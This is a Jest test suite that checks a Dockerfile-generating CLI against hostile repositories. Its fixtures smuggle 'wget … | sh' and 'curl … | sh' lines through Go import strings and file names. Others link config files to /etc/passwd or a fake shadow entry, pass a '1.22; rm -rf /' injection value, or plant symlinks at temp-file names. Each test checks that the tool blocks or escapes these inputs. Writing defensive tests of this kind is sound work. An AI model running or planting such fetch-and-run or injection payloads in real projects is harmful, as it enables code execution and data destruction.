import { beforeAll, describe, expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { LIMITS } from '../src/core/scan.js';
import { generate } from '../src/index.js';
import { C_MAIN, GO_MAIN, goProject, project, runCli } from './helpers.js';
import { keywords } from './plan-check.js';

/**
 * A corpus of bad projects, one test each: what a hostile or careless repository can do to a
 * tool that reads it and writes into it. Special and huge files are made at test time.
 */
const BIN = fileURLToPath(new URL('../bin/create-slim-dockerfile.js', import.meta.url));
const cli = (
  args: string[],
  opts: { env?: Record<string, string>; unprivileged?: boolean; process?: boolean } = {},
) => {
  // In-process unless the run needs a process of its own (another user, an environment, --version).
  if (!opts.unprivileged && !opts.env && !opts.process && !args.includes('--version')) return runCli(args);
  // As root, permission checks do not apply: run as nobody to see what a user would see.
  const asNobody = opts.unprivileged && process.getuid?.() === 0;
  const [cmd, argv] = asNobody
    ? ['setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, BIN, ...args]]
    : [process.execPath, [BIN, ...args]];
  return execa(cmd, argv, { reject: false, env: opts.env ?? {}, stdin: 'pipe', timeout: 20_000 });
};
const noStack = (s: string) => expect(s.split('\n').some((l) => /^\s+at /.test(l))).toBe(false);
/** Everyone may enter and read the folder (for runs as nobody). */
const open = (dir: string) => {
  chmodSync(dir, 0o755);
  return dir;
};

beforeAll(() => {
  if (!existsSync(fileURLToPath(new URL('../dist/main.js', import.meta.url))))
    throw new Error('dist/ is missing: run npm run build first (npm test does)');
});

describe('nothing from a repository adds an instruction', () => {
  const baseline = async () =>
    keywords(
      (await generate(goProject({ 'x.go': 'package main\n\nimport "net/http"\n\nvar _ = http.StatusOK\n' }))).files[0]!
        .content,
    );

  test('an import string spanning lines in a file excluded by a build tag', async () => {
    const dir = goProject({
      'x.go': 'package main\n\nimport "net/http"\n\nvar _ = http.StatusOK\n',
      'y_windows.go': 'package main\n\nimport "net/http\nFROM alpine\nRUN wget -qO- http://203.0.113.1/x | sh\n"\n',
      'z.go': '//go:build windows\n\npackage main\n\nimport (\n"os/user\nRUN id"\n)\n',
    });
    const text = (await generate(dir)).files[0]!.content;
    expect(text).not.toMatch(/wget|RUN id|FROM alpine/);
    expect(keywords(text)).toEqual(await baseline());
  });

  test('a file name with a newline is never read, and never reaches the Dockerfile', async () => {
    const dir = goProject({
      'x.go': 'package main\n\nimport "net/http"\n\nvar _ = http.StatusOK\n',
      'evil\nRUN curl x | sh\n.go': 'package main\n\nimport "net/http"\n',
    });
    const g = await generate(dir);
    expect(g.files[0]!.content).not.toContain('curl');
    expect(keywords(g.files[0]!.content)).toEqual(await baseline());
    expect(g.plan.warnings.join('\n')).toMatch(/Skipped 1 file name with line breaks/);
  });

  test('a C file name with a line break is not built and not printed raw', async () => {
    const dir = project({ 'main.c': C_MAIN, 'x\u2028RUN id.c': C_MAIN });
    const g = await generate(dir);
    expect(g.files[0]!.content).not.toMatch(/\u2028|RUN id/);
    expect(g.plan.name).toBe('main');
  });
});

describe('reading stays inside the project, bounded, and never blocks', () => {
  test.each(['.go-version', '.tool-versions', 'go.mod'])('%s as a FIFO: exit 2 naming it, at once', async (name) => {
    const dir = goProject();
    execFileSync('rm', ['-f', join(dir, name)]);
    execFileSync('mkfifo', [join(dir, name)]);
    const r = await cli([dir, '--stdout']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${name} is a FIFO`);
    noStack(r.stderr);
  });

  test.each(['.go-version', '.tool-versions', 'go.mod'])(
    '%s linked to /dev/zero: exit 2 naming it, nothing read',
    async (name) => {
      const dir = goProject();
      execFileSync('rm', ['-f', join(dir, name)]);
      symlinkSync('/dev/zero', join(dir, name));
      const r = await cli([dir, '--stdout']);
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain(`${name} is a symbolic link to a file outside the project`);
    },
  );

  test.each(['Cargo.toml', 'Cargo.lock', 'rust-toolchain.toml'])(
    'Rust: %s as a FIFO is an exit-2 error naming it, at once',
    async (name) => {
      const dir = project({
        'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n',
        'src/main.rs': 'fn main() {}\n',
      });
      execFileSync('rm', ['-f', join(dir, name)]);
      execFileSync('mkfifo', [join(dir, name)]);
      const r = await cli([dir, '--stdout', '--lang', 'rust']);
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain(`${name} is a FIFO`);
    },
  );

  test('an existing Dockerfile that is a FIFO: exit 2, never opened for a blocking read', async () => {
    const dir = goProject();
    execFileSync('mkfifo', [join(dir, 'Dockerfile')]);
    const r = await cli([dir, '--dry-run']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('Dockerfile in the project is a FIFO');
    expect(lstatSync(join(dir, 'Dockerfile')).isFIFO()).toBe(true);
  });

  test('a tree with a FIFO or /dev/zero behind every file the tool reads finishes with a clear message', async () => {
    const dir = project({ 'main.go': GO_MAIN });
    for (const f of ['go.mod', '.go-version', 'go.work']) execFileSync('mkfifo', [join(dir, f)]);
    for (const f of ['.tool-versions', 'go.sum', 'Dockerfile', '.dockerignore']) symlinkSync('/dev/zero', join(dir, f));
    const r = await cli([dir, '--dry-run']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/^error: (go\.mod|\.go-version|\.tool-versions) is /m);
  });

  test('a .go-version linked to /etc/passwd is not read, nor echoed', async () => {
    const dir = goProject();
    symlinkSync('/etc/passwd', join(dir, '.go-version'));
    const r = await cli([dir, '--stdout']);
    expect(r.exitCode).toBe(2);
    expect(`${r.stdout}${r.stderr}`).not.toContain('root:');
    expect(r.stderr).toContain('.go-version is a symbolic link to a file outside the project');
  });

  test('a source file linked outside the project is ignored with a note', async () => {
    const outside = project({ 'secret.go': 'package main\n\nimport "C"\n' });
    const dir = goProject();
    symlinkSync(join(outside, 'secret.go'), join(dir, 'secret.go'));
    const g = await generate(dir);
    expect(g.plan.runtime).toBe('scratch');
    expect(g.plan.warnings.join('\n')).toContain('Ignored 1 symbolic link that leaves the project (secret.go)');
  });

  test('a link to a file inside the project is read like the file', async () => {
    const dir = goProject({ 'versions/go': '1.23\n' });
    symlinkSync('versions/go', join(dir, '.go-version'));
    expect((await generate(dir)).plan.build.args[0]!.value).toBe('1.23');
  });

  test('--dry-run with a Dockerfile linked to a secret outside prints no byte of it', async () => {
    const secret = join(project({ shadow: 'root:$6$verysecrethash:19000:0:99999:7:::\n' }), 'shadow');
    const dir = goProject();
    symlinkSync(secret, join(dir, 'Dockerfile'));
    const r = await cli([dir, '--dry-run']);
    expect(r.exitCode).toBe(0);
    expect(`${r.stdout}${r.stderr}`).not.toContain('verysecrethash');
    expect(r.stdout).toMatch(
      /would refuse \(Dockerfile is a symbolic link \(to .*shadow\), and links are never read or written through\)/,
    );
    const w = await cli([dir, '--force']);
    expect(w.exitCode).toBe(2);
    expect(w.stderr).toContain('nothing was written, even with --force');
    expect(readFileSync(secret, 'utf8')).toContain('verysecrethash');
  });

  test('an oversized go.mod is an exit-2 error naming it, not an absent one', async () => {
    const dir = goProject({ 'go.mod': `module example.com/app\n\ngo 1.22\n${'// padding\n'.repeat(120_000)}` });
    const r = await cli([dir, '--stdout']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('go.mod is larger than 1 MiB');
    expect(r.stdout).not.toContain('go mod init');
  });

  test('an unreadable go.mod is an exit-2 error naming it, not an absent one', async () => {
    const dir = open(goProject());
    chmodSync(join(dir, 'go.mod'), 0o000);
    chmodSync(join(dir, 'main.go'), 0o644);
    const r = await cli([dir, '--stdout'], { unprivileged: true });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('go.mod cannot be read (permission denied)');
    expect(r.stdout).not.toContain('go mod init');
  });

  test(`a walk that stops early says so, and root markers never depend on it (${LIMITS.files + 500} files in assets/)`, async () => {
    const dir = goProject();
    for (let d = 0; d < 51; d++) {
      mkdirSync(join(dir, 'assets', `d${d}`), { recursive: true });
      for (let i = 0; i < Math.ceil((LIMITS.files + 500) / 51); i++)
        writeFileSync(join(dir, 'assets', `d${d}`, `f${i}.png`), '');
    }
    const g = await generate(dir);
    expect(g.plan.lang).toBe('go');
    expect(g.plan.decisions.find((d) => d.topic === 'Go version')!.because).toContain('go.mod');
    expect(g.plan.warnings.join('\n')).toContain('the scan stopped early (shallow folders first)');
  }, 60_000);
});

describe('user-fixable errors exit 2 with the path and a fix, never a stack', () => {
  test('a read-only directory', async () => {
    const dir = goProject();
    chmodSync(dir, 0o555);
    const r = await cli([dir], { unprivileged: true });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/Cannot write into .*: permission denied; nothing was written/);
    expect(r.stderr).toContain('fix:');
    noStack(r.stderr);
  });

  test('a directory named Dockerfile', async () => {
    const dir = goProject();
    mkdirSync(join(dir, 'Dockerfile'));
    const r = await cli([dir, '--force']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('Dockerfile in the project is a directory');
    noStack(r.stderr);
  });

  test('an unreadable Dockerfile', async () => {
    const dir = open(goProject({ Dockerfile: 'FROM mine\n' }));
    chmodSync(join(dir, 'Dockerfile'), 0o000);
    const r = await cli([dir, '--force'], { unprivileged: true });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('Dockerfile exists but cannot be read (permission denied)');
    noStack(r.stderr);
  });

  test('a dangling Dockerfile.bak link with --force: the backup goes beside it, the link is untouched', async () => {
    const dir = goProject({ Dockerfile: 'FROM mine\n' });
    symlinkSync('/nonexistent/target', join(dir, 'Dockerfile.bak'));
    const r = await cli([dir, '--force']);
    expect(r.exitCode).toBe(0);
    expect(readlinkSync(join(dir, 'Dockerfile.bak'))).toBe('/nonexistent/target');
    expect(readFileSync(join(dir, 'Dockerfile.bak.1'), 'utf8')).toBe('FROM mine\n');
    expect(existsSync('/nonexistent/target')).toBe(false);
  });

  test.each([
    ['--entry', 'a', '--entry', 'b'],
    ['--port', '80', '--port', '81'],
    ['--runtime', 'slim', '--runtime', 'alpine'],
  ])('a flag given twice: %j', async (...args) => {
    const r = await cli([goProject(), '--stdout', ...args]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/was given 2 times .*give it once/);
    noStack(r.stderr);
  });

  test.each(['2.0', '1.022', 'latest', '1.22; rm -rf /'])('--lang-version %s is not a Go release', async (v) => {
    const r = await cli([goProject(), '--stdout', '--lang-version', v]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/is not a Go version|lang-version is not a plain value/);
  });

  test('--lang-version 012 for gcc is not a gcc version either', async () => {
    const r = await cli([project({ 'main.c': C_MAIN }), '--stdout', '--lang-version', '012']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('not a gcc version');
  });

  test('--version prints the package version', async () => {
    const r = await cli(['--version']);
    expect(r.stdout.trim()).toBe(
      (
        JSON.parse(readFileSync(fileURLToPath(new URL('../package.json', import.meta.url)), 'utf8')) as {
          version: string;
        }
      ).version,
    );
  });
});

describe('smaller holes', () => {
  test('a CRLF Makefile finds its target', async () => {
    const dir = project({ Makefile: 'CC=gcc\r\nserver: main.c\r\n\t$(CC) -o $@ main.c\r\n', 'main.c': C_MAIN });
    expect((await generate(dir)).plan.name).toBe('server');
  });

  test('the --entry fix of E_NO_ENTRY works when the target comes from a variable the reader cannot expand', async () => {
    const dir = project({
      Makefile: 'BIN := $(shell cat name.txt)\n$(BIN): main.c\n\t$(CC) -o $@ main.c\n',
      'main.c': C_MAIN,
    });
    const first = await cli([dir, '--stdout']);
    expect(first.exitCode).toBe(2);
    expect(first.stderr).toContain('--entry');
    const again = await cli([dir, '--stdout', '--entry', 'server']);
    expect(again.exitCode).toBe(0);
    expect(again.stdout).toMatch(/make -j"\$\(nproc\)" CC=.* server \\$/m);
  });

  test('escape sequences in file names never reach the terminal raw', async () => {
    const dir = goProject({ 'cmd/\u001b[2Jx/main.go': GO_MAIN, 'cmd/\u001b]0;pwned\u0007/main.go': GO_MAIN });
    const r = await cli([dir, '--stdout', '--explain', '--entry', '\u001b[31mred']);
    expect(`${r.stdout}${r.stderr}`).not.toMatch(/\u001b|\u0007/);
    expect(r.stderr).toContain('\\u001b');
  });

  test('--force keeps the exact mode of a 666 or 775 Dockerfile', async () => {
    for (const mode of [0o666, 0o775]) {
      const dir = goProject({ Dockerfile: 'FROM mine\n' });
      chmodSync(join(dir, 'Dockerfile'), mode);
      expect((await cli([dir, '--force'])).exitCode).toBe(0);
      expect(statSync(join(dir, 'Dockerfile')).mode & 0o7777).toBe(mode);
      expect(statSync(join(dir, 'Dockerfile.bak')).mode & 0o7777).toBe(mode);
    }
  });

  test.each([
    ['inside the project', 'docker/Dockerfile.prod'],
    ['into .git (git runs core.fsmonitor from its config)', '.git/config'],
    ['dangling', 'nowhere/Dockerfile'],
  ])('a Dockerfile that is a symbolic link %s is never written through, even with --force', async (_what, target) => {
    const dir = goProject({
      'docker/Dockerfile.prod': 'FROM mine\n',
      '.git/config': '[core]\n\trepositoryformatversion = 0\n',
    });
    symlinkSync(target, join(dir, 'Dockerfile'));
    for (const flags of [[], ['--force'], ['--force', '--compose']]) {
      const r = await cli([dir, ...flags]);
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain(`Dockerfile is a symbolic link (to ${target})`);
      expect(r.stderr).toContain('rm Dockerfile');
      noStack(r.stderr);
    }
    expect(readlinkSync(join(dir, 'Dockerfile'))).toBe(target);
    expect(readFileSync(join(dir, 'docker/Dockerfile.prod'), 'utf8')).toBe('FROM mine\n');
    expect(readFileSync(join(dir, '.git/config'), 'utf8')).not.toContain('FROM');
    expect(readdirSync(dir).filter((n) => n.includes('.bak') || n === '.dockerignore' || n.endsWith('.tmp'))).toEqual(
      [],
    );
  });

  test.each(['.dockerignore', 'compose.yaml', 'docker-compose.yml'])(
    '%s as a symbolic link is never written through either',
    async (name) => {
      const dir = goProject({ '.git/config': '[core]\n' });
      symlinkSync('.git/config', join(dir, name));
      const r = await cli([dir, '--force', '--compose']);
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain(`${name} is a symbolic link`);
      expect(readFileSync(join(dir, '.git/config'), 'utf8')).toBe('[core]\n');
      expect(existsSync(join(dir, 'Dockerfile'))).toBe(false);
    },
  );

  test("nothing is ever written inside git's own files (a .git folder, or a bare git directory)", async () => {
    const repo = goProject({ '.git/HEAD': 'ref: refs/heads/main\n', '.git/objects/.keep': '', '.git/refs/.keep': '' });
    for (const where of [join(repo, '.git'), join(repo, '.git', 'refs')]) {
      writeFileSync(join(where, 'go.mod'), 'module x\n\ngo 1.22\n');
      writeFileSync(join(where, 'main.go'), GO_MAIN);
      const r = await cli([where, '--force']);
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain('inside a git directory');
      expect(existsSync(join(where, 'Dockerfile'))).toBe(false);
    }
    const bare = goProject({ HEAD: 'ref: refs/heads/main\n', 'objects/.keep': '', 'refs/.keep': '' });
    expect((await cli([bare])).exitCode).toBe(2);
    expect(existsSync(join(bare, 'Dockerfile'))).toBe(false);
  });

  test('planted links at temporary-file names are never followed', async () => {
    const outside = join(project({ victim: 'precious\n' }), 'victim');
    const dir = goProject();
    for (let pid = 1; pid < 400; pid++) symlinkSync(outside, join(dir, `Dockerfile.${pid}.tmp`));
    for (const n of ['.Dockerfile.tmp', '.dockerignore.tmp']) symlinkSync(outside, join(dir, n));
    expect((await cli([dir])).exitCode).toBe(0);
    expect(readFileSync(outside, 'utf8')).toBe('precious\n');
    expect(lstatSync(join(dir, 'Dockerfile')).isFile()).toBe(true);
  });

  test('no run, however interrupted, leaves a temporary file or one file of the pair', async () => {
    const dirs: string[] = [];
    for (let i = 0; i < 24; i++) {
      const dir = goProject();
      dirs.push(dir);
      const child = execa(process.execPath, [BIN, dir], { reject: false, stdin: 'pipe' });
      // Spread over start-up, scanning and writing.
      await new Promise((r) => setTimeout(r, 40 + ((i * 37) % 260)));
      child.kill(i % 2 ? 'SIGINT' : 'SIGTERM');
      await child;
    }
    for (const dir of dirs) {
      const names = readdirSync(dir);
      expect(names.filter((n) => n.endsWith('.tmp'))).toEqual([]);
      expect(names.includes('Dockerfile')).toBe(names.includes('.dockerignore'));
    }
  }, 60_000);
});

test('fixtures stay in the temporary folder', () => {
  expect(project({}).startsWith(tmpdir())).toBe(true);
});
